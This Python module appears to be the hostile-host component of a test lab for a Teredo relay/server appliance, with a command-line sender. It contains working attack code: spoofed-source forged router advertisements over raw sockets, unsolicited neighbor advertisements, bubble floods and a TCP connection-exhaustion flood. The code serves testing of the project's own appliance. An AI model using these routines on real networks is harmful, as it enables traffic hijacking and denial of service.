"""What the lab's hostile host sends: the packets (pure builders) and the sender script.

The builders use the project's own `wire` module, so the hostile traffic is exactly as
well-formed as it means to be: every Teredo source embeds the sender's real mapping
(RFC 4380 §5.3.1 rule 5 holds), every checksum is right; only the intent is hostile.
Run inside a namespace as `python -m teredo_lab.attacks COMMAND ARGS...`;
each command prints one JSON line saying what it did.
"""

from __future__ import annotations

import ipaddress
import json
import os
import select
import signal
import socket
import struct
import sys
import time

from teredo_appliance.wire.address import TeredoAddress, ipv4_to_int
from teredo_appliance.wire.constants import TEREDO_PORT
from teredo_appliance.wire.errors import ParseError
from teredo_appliance.wire.ipv6 import build_echo, build_icmpv6, parse_echo, parse_header
from teredo_appliance.wire.nd import ND_HOP_LIMIT, router_advertisement, router_solicitation, teredo_prefix64
from teredo_appliance.wire.teredo import AuthIndicator, build_bubble, origin_indication, parse_datagram

HOSTILE_PORT = 40066  # the hostile host's UDP port: its Teredo address embeds it
LINK_LOCAL_PORT = 40169  # the port of the 169.254 mapping
ICMPV6_NEIGHBOR_ADVERTISEMENT = 136  # RFC 4861 §4.4
NA_OVERRIDE = 0x20000000  # RFC 4861 §4.4: O flag
MARK = b"teredo-lab-hostile"  # payload of every echo the hostile host sends: what checks look for
# Echo identifiers, one per kind of probe, so a capture tells which one leaked.
ECHO_NORMAL, ECHO_HOP_LIMIT_1, ECHO_NON_GLOBAL, ECHO_SILENT = 0x7E01, 0x7E02, 0x7E03, 0x7E04
NON_GLOBAL = {"ula": "fd00::1", "site-local": "fec0::1", "v4-mapped": "::ffff:198.18.0.99"}
IPV4_HEADER = struct.Struct("!BBHHHBBH4s4s")
UDP_HEADER = struct.Struct("!HHHH")
IPPROTO_UDP = 17


def teredo_address(server: str, mapped_ip: str, mapped_port: int) -> bytes:
    """The Teredo address of a host behind no NAT at `mapped_ip:mapped_port` (flags 0)."""
    return TeredoAddress(ipv4_to_int(server), 0, mapped_port, ipv4_to_int(mapped_ip)).pack()


def packed(address: str) -> bytes:
    return ipaddress.IPv6Address(address).packed


def neighbor_advertisement(source: bytes, destination: bytes) -> bytes:
    """An unsolicited NA (hop limit 255, override) claiming `destination` is at `source`."""
    body = struct.pack("!I", NA_OVERRIDE) + destination
    return build_icmpv6(source, destination, ICMPV6_NEIGHBOR_ADVERTISEMENT, 0, body, ND_HOP_LIMIT)


def marked_echo(source: bytes, destination: bytes, identifier: int, sequence: int = 0, hop_limit: int = 64) -> bytes:
    return build_echo(source, destination, identifier, sequence, MARK, hop_limit=hop_limit)


def is_marked_echo(packet: bytes, identifier: int | None = None) -> bool:
    """Whether `packet` (IPv6) is an echo request the hostile host sent (of kind `identifier`)."""
    try:
        header = parse_header(packet)
    except ParseError:
        return False
    echo = parse_echo(packet, header)
    return (echo is not None and not echo.reply and echo.data == MARK
            and (identifier is None or echo.identifier == identifier))


def forged_ra(hostile_server: str, mapped_ip: str, mapped_port: int, nonce: bytes | None) -> bytes:
    """A Teredo RA a client never asked for: another server's prefix, another mapping.

    From the link-local source such an RA always has (RFC 4380 §5.2.1); with an
    authentication header carrying `nonce` (one the client never sent) or none at all.
    """
    server = ipv4_to_int(hostile_server)
    ra = router_advertisement(server, packed("fe80::ffff:ffff:ffff"), teredo_prefix64(server), 1280)
    auth = b"" if nonce is None else AuthIndicator(nonce).pack()
    return auth + origin_indication(ipv4_to_int(mapped_ip), mapped_port) + ra


def ipv4_udp(source: str, source_port: int, destination: str, destination_port: int, payload: bytes) -> bytes:
    """A whole IPv4+UDP packet for a raw socket (IP_HDRINCL): the way to forge a source.

    The kernel fills in the IPv4 checksum and identification; the UDP checksum is 0
    ("none", legal over IPv4).
    """
    udp = UDP_HEADER.pack(source_port, destination_port, UDP_HEADER.size + len(payload), 0) + payload
    header = IPV4_HEADER.pack(0x45, 0, IPV4_HEADER.size + len(udp), 0, 0, 64, IPPROTO_UDP, 0,
                              socket.inet_aton(source), socket.inet_aton(destination))
    return header + udp


# -- the sender script ---------------------------------------------------------------------


def _udp(address: str, port: int) -> socket.socket:
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind((address, port))
    return sock


def via_teredo(local: str, server: str, target: str, ipv6_host: str, kinds: str) -> dict:
    """Teredo-encapsulated to `target`:3544: echoes to non-global destinations and, if
    `kinds` is "all", an NA, a hop-limit-1 echo and a normal echo to `ipv6_host` too.

    `server` is the Teredo server our source address names, `ipv6_host` a native address
    on the server's IPv6 link.
    """
    me = teredo_address(server, local, HOSTILE_PORT)
    host = packed(ipv6_host)
    packets = {}
    if kinds == "all":
        packets = {"na": neighbor_advertisement(me, host),
                   "hop-limit-1": marked_echo(me, host, ECHO_HOP_LIMIT_1, hop_limit=1),
                   "normal": marked_echo(me, host, ECHO_NORMAL)}
    packets |= {kind: marked_echo(me, packed(address), ECHO_NON_GLOBAL) for kind, address in NON_GLOBAL.items()}
    with _udp(local, HOSTILE_PORT) as sock:
        for packet in packets.values():
            sock.sendto(packet, (target, TEREDO_PORT))
            time.sleep(0.05)
    return {"sent": sorted(packets), "source": str(ipaddress.IPv6Address(me))}


def link_local_bubble(link_local: str, server: str, relay: str, claimed_destination: str) -> dict:
    """A bubble from a 169.254 mapping whose Teredo source embeds it, to the relay."""
    me = teredo_address(server, link_local, LINK_LOCAL_PORT)
    with _udp(link_local, LINK_LOCAL_PORT) as sock:
        for _ in range(3):
            sock.sendto(build_bubble(me, packed(claimed_destination)), (relay, TEREDO_PORT))
            time.sleep(0.05)
    return {"source": str(ipaddress.IPv6Address(me))}


def indirect_bubbles(local: str, server: str, victim: str, count: int, seconds: float) -> dict:
    """`count` bubbles to a client's Teredo address through its server, over `seconds`."""
    me = teredo_address(server, local, HOSTILE_PORT)
    bubble = build_bubble(me, packed(victim))
    with _udp(local, HOSTILE_PORT) as sock:
        for _ in range(count):
            sock.sendto(bubble, (server, TEREDO_PORT))
            time.sleep(seconds / count)
    return {"sent": count}


def spoofed_ras(server: str, nat: str, nat_port: int, hostile_server: str) -> dict:
    """Forged RAs to a client's NAT mapping, from the server's address and port 3544."""
    payloads = [forged_ra(hostile_server, hostile_server, HOSTILE_PORT, nonce) for nonce in (None, os.urandom(8))]
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as sock:
        for payload in payloads * 2:
            sock.sendto(ipv4_udp(server, TEREDO_PORT, nat, nat_port, payload), (nat, 0))
            time.sleep(0.1)
    return {"sent": 2 * len(payloads)}


def native_echoes(*destinations: str) -> dict:
    """One echo request to each destination, from this (native IPv6) host."""
    with socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6) as sock:
        for sequence, destination in enumerate(destinations):
            # The kernel fills in the source and the checksum of an ICMPv6 raw socket.
            message = struct.pack("!BBHHH", 128, 0, 0, ECHO_SILENT, sequence) + MARK
            sock.sendto(message, (destination, 0))
    return {"sent": len(destinations)}


def tcp_flood(host: str, port: int, count: int) -> dict:
    """Open `count` idle TCP connections and hold them until SIGTERM."""
    stopping: list[int] = []
    signal.signal(signal.SIGTERM, lambda *_: stopping.append(1))
    held, refused = [], 0
    for _ in range(count):
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        sock.settimeout(2)
        try:
            sock.connect((host, port))
            held.append(sock)
        except OSError:
            refused += 1
            sock.close()
    print(json.dumps({"open": len(held), "refused": refused}), flush=True)
    while not stopping:
        time.sleep(0.1)
    for sock in held:
        sock.close()
    return {"open": len(held), "refused": refused}


def rs_probe(local: str, server: str, count: int, interval: float) -> dict:
    """Qualify `count` times, `interval` apart: how many RS got their RA (matching nonce)."""
    answered = 0
    with _udp(local, 0) as sock:
        for _ in range(count):
            nonce = os.urandom(8)
            sock.sendto(AuthIndicator(nonce).pack() + router_solicitation(), (server, TEREDO_PORT))
            deadline = time.monotonic() + interval
            while (left := deadline - time.monotonic()) > 0 and select.select([sock], [], [], left)[0]:
                try:
                    datagram = parse_datagram(sock.recv(2048))
                except ParseError:
                    continue
                if datagram.auth is not None and datagram.auth.nonce == nonce:
                    answered += 1
            time.sleep(max(0.0, deadline - time.monotonic()))
    return {"sent": count, "answered": answered}


COMMANDS = {
    "via-teredo": lambda a: via_teredo(a[0], a[1], a[2], a[3], a[4]),
    "link-local-bubble": lambda a: link_local_bubble(a[0], a[1], a[2], a[3]),
    "indirect-bubbles": lambda a: indirect_bubbles(a[0], a[1], a[2], int(a[3]), float(a[4])),
    "spoofed-ras": lambda a: spoofed_ras(a[0], a[1], int(a[2]), a[3]),
    "native-echoes": lambda a: native_echoes(*a),
    "tcp-flood": lambda a: tcp_flood(a[0], int(a[1]), int(a[2])),
    "rs-probe": lambda a: rs_probe(a[0], a[1], int(a[2]), float(a[3])),
}


def main(argv: list[str]) -> int:
    if not argv or argv[0] not in COMMANDS:
        print(f"usage: attacks {{{'|'.join(COMMANDS)}}} ARGS...", file=sys.stderr)
        return 2
    print(json.dumps(COMMANDS[argv[0]](argv[1:])), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
